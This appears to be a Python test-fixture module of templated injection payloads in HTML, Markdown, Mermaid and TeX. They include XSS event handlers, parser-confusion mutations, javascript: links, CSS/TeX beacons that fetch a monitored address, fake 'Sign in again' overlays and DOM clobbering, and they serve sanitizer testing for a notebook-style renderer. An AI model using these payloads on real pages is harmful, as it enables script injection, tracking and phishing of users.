r"""Texts that do harm where a page takes them for its own: HTML, Markdown and TeX.

Each is a template. `@RUN` becomes a call of `harm`, which the watching browser offers to every script; `@URL` becomes
an address that the watching browser reports; `@ID` becomes a number of its own. So each harm is known by its text.
"""

from __future__ import annotations

SCRIPTS = {
    "script": "<script>@RUN</script>",
    "script in odd letters": "<ScRiPt >@RUN</sCrIpT >",
    "script with a slash": "<script/x>@RUN</script>",
    "script of a module": "<script type=module>@RUN</script>",
    "script from elsewhere": "<script src=@URL/a.js></script>",
    "script in a script": "<scr<script>ipt>@RUN</scr</script>ipt><img src=x onerror=@RUN>",
    "script in a frame": "<iframe srcdoc='<script>@RUN</script>'></iframe>",
    "script as an address": "<iframe src='javascript:@RUN'></iframe>",
    "script as an object": "<object data='javascript:@RUN'></object><embed src='javascript:@RUN'>",
    "data as an address": "<iframe src='data:text/html,<img src=@URL/d>'></iframe>",
}
HANDLERS = {
    "onerror of an image": "<img src=x onerror='@RUN'>",
    "onload of an image": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=@RUN onerror=@RUN>",
    "onload of a drawing": "<svg onload=@RUN></svg>",
    "onload of a frame": "<iframe onload=@RUN></iframe>",
    "onload of a style": "<style onload=@RUN></style>",
    "onerror of a link": "<link rel=stylesheet href=data:x onerror=@RUN onload=@RUN>",
    "onerror of a source": "<video><source src=data:x onerror=@RUN></video>",
    "onerror of audio": "<audio src=data:x onerror=@RUN></audio>",
    "onerror of an object": "<object data=x:x onerror=@RUN></object>",
    "onerror of an input": "<input type=image src=x:x onerror=@RUN>",
    "onloadstart of a video": "<video src=data:x onloadstart=@RUN></video>",
    "onfocus of an input": "<input autofocus onfocus=@RUN>",
    "onfocus of a choice": "<select autofocus onfocus=@RUN></select>",
    "onfocus of a text area": "<textarea autofocus onfocus=@RUN></textarea>",
    "onfocus of any element": "<b tabindex=0 autofocus onfocus=@RUN>x</b>",
    "onfocusin of a form": "<form onfocusin=@RUN><input autofocus></form>",
    "onblur of a button": "<button onblur=@RUN onfocus=@RUN>x</button>",
    "ontoggle of details": "<details open ontoggle=@RUN><summary>s</summary>x</details>",
    "onmouseover": "<p onmouseover=@RUN>move here</p>",
    "onpointerenter": "<p onpointerenter=@RUN>move here</p>",
    "onmousemove of a cell": "<table><tr><td onmousemove=@RUN>move here</table>",
    "onanimationstart": "<style>@keyframes k@ID{}</style><p style='animation:k@ID 1s' onanimationstart=@RUN>x</p>",
    "onstart of a marquee": "<marquee onstart=@RUN>x</marquee>",
    "onbegin of an animation": "<svg><animate onbegin=@RUN attributeName=x dur=1s /></svg>",
    "onbegin of a set": "<svg><set onbegin=@RUN attributeName=x to=1 /></svg>",
    "handler without blanks": "<img/src='x'/onerror=@RUN>",
    "handler on lines": "<img\nsrc=x\nonerror\n=\n@RUN\n>",
    "handler in backticks": "<img src=`x`onerror=@RUN>",
    "handler in entities": "<img src=x onerror=&#104;&#x61;rm(@ID)>",
    "handler behind a quote": "<p title='\"><img src=x onerror=@RUN>'>\"><img src=x onerror=@RUN>",
    "handler behind a null": "<img src=x \x00onerror=@RUN>",
}
# What a page may take for its own up to its end, where it is shown as it is.
PARSERS = {
    "comment that ends early": "<!--><img src=x onerror=@RUN>-->",
    "comment with a dash": "<!-- --!><img src=x onerror=@RUN> -->",
    "character data": "<![CDATA[><img src=x onerror=@RUN>]]>",
    "instruction": "<?xml ><img src=x onerror=@RUN>?>",
    "no script": "<noscript><p title='</noscript><img src=x onerror=@RUN>'></noscript>",
    "text area": "<textarea><p title='</textarea><img src=x onerror=@RUN>'></textarea>",
    "title": "<title><p title='</title><img src=x onerror=@RUN>'></title>",
    "mathematics in a table": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=x onerror=@RUN&gt;'>",
    "mathematics in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@RUN></style>",
    "annotation": "<math><annotation-xml encoding=text/html><style><img src=x onerror=@RUN></style></annotation-xml>",
    "style in a drawing": "<svg></p><style><a id='</style><img src=x onerror=@RUN>'></style></svg>",
    "tables in tables": "<table><tr><td><p><table><tr><td><p><img src=x onerror=@RUN></table></p></table>",
    "paragraphs in paragraphs": "<p><table><p><img src=x onerror=@RUN></p></table></p>",
    "choice": "<select><option><style></option></select><img src=x onerror=@RUN></style>",
    "template": "<template><p></template><img src=x onerror=@RUN>",
    "plain text": "<xmp></xmp><img src=x onerror=@RUN><plaintext>",
    "entities of tags": "&lt;img src=x onerror=@RUN&gt;<img src=x onerror=@RUN>",
    "characters that are none": "\ufdd1img src=x onerror=@RUN\ufdd2<img src=x onerror=@RUN>",
    "wide letters": "\uff1cimg src=x onerror=@RUN\uff1e\u2028<img src=x\u00a0onerror=@RUN><img src=x onerror=@RUN>",
    "unfinished tag": "<img src=x onerror=@RUN //",
}
REQUESTS = {
    "image": "<img src=@URL/a.png>",
    "set of images": "<img srcset='@URL/a.png 1x'>",
    "picture": "<picture><source srcset=@URL/a.png><img src=data:,></picture>",
    "video": "<video src=@URL/a.mp4 autoplay></video>",
    "poster": "<video poster=@URL/a.png></video>",
    "audio": "<audio src=@URL/a.ogg autoplay></audio>",
    "track": "<video src=data:, ><track default src=@URL/a.vtt></video><img src=@URL/a.png>",
    "input": "<input type=image src=@URL/a.png>",
    "background": "<table background=@URL/a.png><tr><td>x</table>",
    "frame": "<iframe src=@URL/a.html></iframe>",
    "object": "<object data=@URL/a.html></object>",
    "embed": "<embed src=@URL/a.html>",
    "style sheet": "<link rel=stylesheet href=@URL/a.css>",
    "preload": "<link rel=preload as=image href=@URL/a.png>",
    "prefetch": "<link rel=prefetch href=@URL/a.png>",
    "icon": "<link rel=icon href=@URL/a.ico>",
    "import": "<style>@import url(@URL/a.css);</style>",
    "font": "<style>@font-face{font-family:f@ID;src:url(@URL/a.woff)}</style><p style='font-family:f@ID'>x</p>",
    "style": "<p style='background:url(@URL/a.png)'>x</p>",
    "cursor": "<p style='cursor:url(@URL/a.cur),auto'>x</p>",
    "bullet": "<ul style='list-style-image:url(@URL/a.png)'><li>x</ul>",
    "content": "<style>.c@ID::before{content:url(@URL/a.png)}</style><p class=c@ID>x</p>",
    "escaped style": "<p style='background:\\75rl(@URL/a.png)'>x</p>",
    "image of a drawing": "<svg><image href=@URL/a.png width=9 height=9 /></svg>",
    "old image of a drawing": "<svg><image xlink:href=@URL/a.png width=9 height=9 /></svg>",
    "filter of a drawing": "<svg><filter id=f@ID><feImage href=@URL/a.png /></filter>"
    "<rect filter=url(#f@ID) width=9 height=9 /></svg>",
    "foreign object": "<svg><foreignObject><img src=@URL/a.png></foreignObject></svg>",
    "style of a drawing": "<svg><style>@import url(@URL/a.css);</style></svg>",
}
# What changes the addresses of all that follows, so that each needs a page of its own where it is shown as it is.
NAVIGATION = {
    "refresh": "<meta http-equiv=refresh content='0;url=@URL/a.html'>",
    "form that sends itself": "<form action=@URL/a.html><input autofocus onfocus=this.form.submit()></form>",
    "base": "<base href=@URL/><img src=a.png>",
}
OVERLAYS = {
    "fixed": "<div style='position:fixed;inset:0;z-index:99999;background:white'>Sign in again</div>",
    "fixed by a rule": "<style>.f@ID{position:fixed;top:0;left:0;width:90vw;height:90vh}</style><p class=f@ID>x</p>",
    "absolute": "<div style='position:absolute;top:-400px;left:-300px;width:900px;height:500px;background:red'>x</div>",
    "absolute in a table": "<table><tr><td style='position:fixed;top:0;left:0;width:50vw;height:50vh'>x</table>",
    "class of a dialog": "<div class=jp-Dialog style='position:fixed'><div class=jp-Dialog-content>Sign in</div></div>",
    "pop-up": "<div popover=manual style='display:block;inset:0;width:90vw;height:90vh'>x</div>",
    "drawing over all": "<svg style='position:fixed;inset:0;width:99vw;height:99vh'><rect width=999 height=99 /></svg>",
    "page restyled": "<style>body>*{filter:blur(9px)}</style>",
    "page hidden": "<style>main,.jp-Toolbar,.jp-Cell-inputWrapper{visibility:hidden}</style>",
}
NAMES = {
    "name of an image": "<img name=clobber@ID src=data:,>",
    "id of a link": "<a id=clobber@ID href=x:x>x</a>",
    "name of a form": "<form name=clobber@ID><input name=y></form>",
    "id of a paragraph": "<p id=clobber@ID>x</p>",
}
DRAWINGS = {
    "drawing with a script": "<svg xmlns='http://www.w3.org/2000/svg'><script>@RUN</script><rect width='9'/></svg>",
    "drawing with a handler": "<svg xmlns='http://www.w3.org/2000/svg' onload='@RUN'><rect width='9'/></svg>",
    "drawing with an image": "<svg xmlns='http://www.w3.org/2000/svg'><image href='@URL/a.png' width='9'/></svg>",
    "drawing with a style": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(@URL/a.css);</style></svg>",
    "drawing with HTML": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject>"
    "<img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='@RUN'/></foreignObject></svg>",
    "drawing that animates": "<svg xmlns='http://www.w3.org/2000/svg'><animate onbegin='@RUN' dur='1s'/></svg>",
    "drawing that uses another": "<svg xmlns='http://www.w3.org/2000/svg'>"
    "<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;"
    "&lt;image href=&quot;@URL/a.png&quot;/&gt;&lt;/svg&gt;#x'/><image href='@URL/b.png' width='9'/></svg>",
    "drawing that covers": "<svg xmlns='http://www.w3.org/2000/svg' style='position:fixed;top:0;left:0;width:99vw;"
    "height:99vh'><rect width='9999' height='9999'/></svg>",
}
HTML = SCRIPTS | HANDLERS | REQUESTS | OVERLAYS | NAMES

GRAPH = 'flowchart LR\n  A@{ img: "@URL/a.png", w: 60, h: 60 }'
CLICK = 'flowchart LR\n  A --> B\n  click A "javascript:@RUN"'
THEME = '%%{init: {"themeCSS": "@import url(@URL/a.css); .node { background: url(@URL/a.png) }"}}%%\n' + GRAPH
LABEL = 'flowchart LR\n  A["<img src=@URL/a.png onerror=@RUN>"]'


def _fence(code: str, mark: str = "```", info: str = "mermaid", margin: str = "", first: str | None = None) -> str:
    """Return a fenced block of code, each line behind a margin, the first behind one of its own."""
    lines = [f"{mark}{info}", *code.split("\n"), mark]
    return "\n".join((margin if number or first is None else first) + line for number, line in enumerate(lines))


FENCES = {
    "fence": _fence(GRAPH),
    "fence with a click": _fence(CLICK),
    "fence with a theme": _fence(THEME),
    "fence with a label": _fence(LABEL),
    "fence of tildes": _fence(GRAPH, "~~~"),
    "fence of many marks": _fence(GRAPH, "``````"),
    "fence with more words": _fence(GRAPH, info="mermaid title=x"),
    "fence with a blank": _fence(GRAPH, info=" mermaid"),
    "fence in a quotation": _fence(GRAPH, margin="> "),
    "fence in two quotations": _fence(GRAPH, margin="> > "),
    "fence in a list": _fence(GRAPH, margin="  ", first="- "),
    "fence in a numbered list": _fence(GRAPH, margin="   ", first="1. "),
    "fence in a list in a quotation": _fence(GRAPH, margin=">   ", first="> - "),
    "fence in a quotation in a list": _fence(GRAPH, margin="  > ", first="- > "),
    "fence behind an item": "- item\n\n" + _fence(GRAPH, margin="  "),
    "fence behind one blank": _fence(GRAPH, margin=" "),
    "fence behind three blanks": _fence(GRAPH, margin="   "),
    "fence behind a tab in a list": _fence(GRAPH, margin="\t", first="-\t"),
    "fence of tildes in a quotation": _fence(GRAPH, "~~~", margin="> "),
    "fence without an end": _fence(GRAPH).removesuffix("```"),
    "fence in a foot note": "x[^1]\n\n[^1]: y\n\n" + _fence(GRAPH, margin="    "),
    "fence behind a formula": "$x\n\n" + _fence(GRAPH, margin="> ") + "\n\n$",
    "fence on carriage returns": _fence(GRAPH, margin="> ").replace("\n", "\r"),
    "fence in entities": "> ```&#109;ermaid\n" + _fence(GRAPH, margin="> ").partition("\n")[2],
    "fence in escapes": "> ```mer\\maid\n" + _fence(GRAPH, margin="> ").partition("\n")[2],
    "diagram as HTML": f'<div class="jp-Mermaid"><pre class="mermaid">{GRAPH}</pre></div><img src=@URL/b.png>',
}
MARKDOWN = FENCES | {
    "Markdown image": "![p](@URL/a.png)",
    "Markdown image without words": "![](@URL/a.png)",
    "Markdown image by reference": "![p][r]\n\n[r]: @URL/a.png",
    "Markdown image by its words": "![r@ID]\n\n[r@ID]: <@URL/a.png> 'title'",
    "Markdown image in a link": "[![p](@URL/a.png)](@URL)",
    "Markdown image in a table": "| a |\n| - |\n| ![p](@URL/a.png) |",
    "Markdown image on two lines": "![p\nq](\n@URL/a.png\n)",
    "Markdown link that runs": "[click](javascript:@RUN) <javascript:@RUN> [c][j]\n\n[j]: javascript:@RUN",
    "Markdown link in entities": "[click](&#106;avascript&colon;@RUN)",
    "HTML in Markdown": "text <img src=x onerror=@RUN> text",
    "HTML block in Markdown": "<div>\n\n<img src=x onerror=@RUN>\n\n</div>",
    "HTML over lines of a quotation": "> <img\n> src=x onerror=@RUN>",
    "HTML in a heading": "# a <img src=x onerror=@RUN>",
    "HTML behind a fence": "```\n```<img src=x onerror=@RUN>\n\n<img src=x onerror=@RUN>\n```",
    "formula in a link": '[a](@URL/$"onmouseover="@RUN"x="$)',
    "formula in an address": '@URL/$"onpointerenter="@RUN"$ @URL/\\\\("onfocus="@RUN"autofocus="\\\\)',
    "formula in a title": '[a](@URL "$" onmouseover="@RUN" x="$")',
    "formula in a definition": '[b][b]\n\n[b]: @URL\n"$" onmouseover="@RUN" x="$"',
    "formula at a fence": "$a\n~~~\n$<img src=x onerror=@RUN>\n~~~",
    "formula in code": "`$`<img src=x onerror=@RUN>`$`",
    "overlay in Markdown": OVERLAYS["fixed"],
    "style in Markdown": "<style>body>*{filter:blur(9px)}</style>\n\n<p style='background:url(@URL/a.png)'>x</p>",
    "name in Markdown": "<a id=clobber@ID></a>",
    "page that moves in Markdown": "<input autofocus onfocus='this.form.submit()' form=g@ID>"
    "<form id=g@ID action=@URL/a.html></form>",
}

SEND = r"\style{cursor:url(@URL/a.cur),auto}{x}"
TOKEN = r'\mmlToken{mi}[style="cursor:url(@URL/a.cur),auto"]{x}'
TEX = {
    "link that runs": r"\href{javascript:@RUN}{x}",
    "style": SEND,
    "style that loads": r"\style{background:url(@URL/a.png)}{x}",
    "style that covers": r"\style{position:fixed;top:0;left:0;width:99vw;height:99vh;background:red}{x}",
    "class": r"\class{jp-Dialog}{x}",
    "id": r"\cssId{clobber@ID}{x}",
    "token": TOKEN,
    "token in capitals": TOKEN.replace("style=", "STYLE="),
    "token that covers": r'\mmlToken{mi}[style="position:fixed;top:0;left:0;width:99vw;height:99vh"]{x}',
    "token with a class": r'\mmlToken{mi}[class="jp-Dialog"]{x}',
    "token with an id": r'\mmlToken{mi}[id="clobber@ID"]{x}',
    "token with a link": r'\mmlToken{mi}[href="javascript:@RUN"]{x}',
    "box": r"\bbox[background:url(@URL/a.png)]{x}",
    "box with a cursor": r"\bbox[cursor:url(@URL/a.cur),auto]{x}",
    "box that covers": r"\bbox[position:fixed;top:0;left:0;width:99vw;height:99vh]{x}",
    "letter": r"\unicode[url(@URL/a.woff)]{65}" + SEND,
    "required": r"\require{html}" + SEND,
    "required action": r"\require{action}\texttip{x}{y}" + TOKEN,
    "definition": r"\def\z{" + SEND + r"}\z",
    "other name": r"\let\z\style\z{cursor:url(@URL/a.cur),auto}{x}",
    "other name of a token": r"\let\z=\mmlToken\z{mi}[style=" + '"cursor:url(@URL/a.cur),auto"]{x}',
    "made name": r"\csname style\endcsname{cursor:url(@URL/a.cur),auto}{x}",
    "new command": r"\newcommand{\z}[1]{" + TOKEN + r"}\z{}",
    "provided command": r"\providecommand{\z}[1]{" + TOKEN + r"}\z{}",
    "new environment": r"\newenvironment{z}{" + SEND + r"}{}\begin{z}\end{z}",
    "declared pair": r"\DeclarePairedDelimiterXPP{\z}[1]{" + TOKEN + r"}{(}{)}{}{#1}\z{x}",
    "declared pair of others": r"\DeclarePairedDelimiter{\z}{" + TOKEN + r"}{)}\z{x}",
    "declared operator": r"\DeclareMathOperator{\z}{" + TOKEN + r"}\z",
    "frame with a style": r'\enclose{box}[style="cursor:url(@URL/a.cur),auto"]{x}',
    "stroke with a style": r'\cancel[style="cursor:url(@URL/a.cur),auto"]{x}',
    "colour with a style": r"\color{red;background:url(@URL/a.png)}{x}\colorbox{red;background:url(@URL/b.png)}{y}",
    "formula in words": r"\text{a $" + SEND + "$ b}",
    "formula in a table": r"\begin{array}{c}" + TOKEN + r"\end{array}",
    "formula in a tag": r"x\tag{$" + SEND + "$}",
    "unit": r"\require{unitext}\require{physics}\require{texhtml}" + TOKEN,
    "HTML in a formula": "<img src=x onerror=@RUN>",
    "HTML in a formula by words": r"\text{<img src=x onerror=@RUN>}",
    "comment in a command": "\\style%\n{cursor:url(@URL/a.cur),auto}{x}",
    "blanks in a command": "\\mmlToken \n {mi} [style='cursor:url(@URL/a.cur),auto'] {x}",
}
DELIMITERS = {
    "$": ("$", "$"),
    "$$": ("$$", "$$"),
    "\\(": (r"\(", r"\)"),
    "\\[": (r"\[", r"\]"),
    "environment": (r"\begin{equation}", r"\end{equation}"),
    "aligned": (r"\begin{align*}", r"\end{align*}"),
    "doubly": (r"\\(", r"\\)"),
}

# What a service, a server or a file may say, and every door shows as words. Each does harm in HTML or in Markdown.
WORDS = {
    "handler": "<img src=x onerror=@RUN>",
    "image": "<img src=@URL/a.png>",
    "fixed": "<b style=position:fixed;inset:0>x</b>",
    "token": f"${TOKEN}$",
    "style": f"\\({SEND}\\)",
    "environment": f"\\begin{{equation}}{TOKEN}\\end{{equation}}",
}
MARKDOWN_WORDS = {
    "Markdown image": "![](@URL/a.png)",
    "end of code": "x` <img src=x onerror=@RUN>",
    "end of a cell": "x | <img src=x onerror=@RUN> | y",
    "end of a line": "x\n\n<img src=x onerror=@RUN>\n\n" + _fence(GRAPH),
}
